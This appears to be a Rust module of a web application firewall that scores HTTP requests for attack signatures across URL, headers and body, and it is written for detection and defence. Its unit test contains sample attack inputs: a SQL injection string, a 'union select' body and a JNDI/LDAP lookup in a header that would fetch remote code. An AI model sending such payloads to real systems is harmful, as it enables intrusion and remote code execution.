//! How much a whole request looks like an attack, and why: what `weir score` tells.

use crate::policy::Part;
use crate::request::Request;
use crate::scan::{Signature, decode_url, signatures};

/// From this score on a request is blocked where no policy says otherwise.
pub const BLOCK_FROM: f32 = 0.5;

/// Something that speaks for an attack.
#[derive(Clone, Debug, PartialEq)]
pub struct Finding {
    /// Where it is.
    pub part: Part,
    /// The detector that reports it.
    pub detector: &'static str,
    /// What it saw: a signature's name.
    pub reason: String,
    /// How sure it is, 0 to 1.
    pub confidence: f32,
}

/// All that speaks for an attack in a request, the strongest first.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct Score {
    /// How much it looks like an attack, 0 to 1.
    pub score: f32,
    /// Why.
    pub findings: Vec<Finding>,
}

/// Scores a request.
pub fn score(request: &Request) -> Score {
    let mut findings = Vec::new();
    let mut part = |part, text: &[u8]| signatures(text, |s| findings.push(finding(part, s)));
    let mut url = Vec::new();
    decode_url(request.url.as_bytes(), &mut url);
    part(Part::Url, &url);
    for (_, value) in &request.headers {
        part(Part::Headers, value.as_bytes());
    }
    part(Part::Body, &request.body);
    findings.sort_by(|a, b| b.confidence.total_cmp(&a.confidence));
    Score { score: findings.first().map_or(0.0, |f| f.confidence), findings }
}

fn finding(part: Part, signature: Signature) -> Finding {
    Finding {
        part,
        detector: signature.detector,
        reason: signature.name.to_owned(),
        confidence: signature.confidence,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn scored(line: &str) -> Score {
        score(&Request::parse(line.as_bytes()).unwrap())
    }

    #[test]
    fn attacks_are_found_in_all_parts() {
        for (line, part) in [
            (r#"{"method":"GET","url":"/?id=1%27%20or%20%271%27=%271"}"#, Part::Url),
            (r#"{"method":"GET","url":"/","headers":{"X-A":"${jndi:ldap://a/b}"}}"#, Part::Headers),
            (r#"{"method":"POST","url":"/","body":"a=1 union select 2"}"#, Part::Body),
        ] {
            let score = scored(line);
            assert!(score.score > BLOCK_FROM, "{line}");
            assert_eq!(score.findings.first().map(|f| f.part), Some(part), "{line}");
        }
        let harmless = r#"{"method":"GET","url":"/orders?from=union+station","body":"{\"a\":1}"}"#;
        assert_eq!(scored(harmless), Score::default());
    }
}
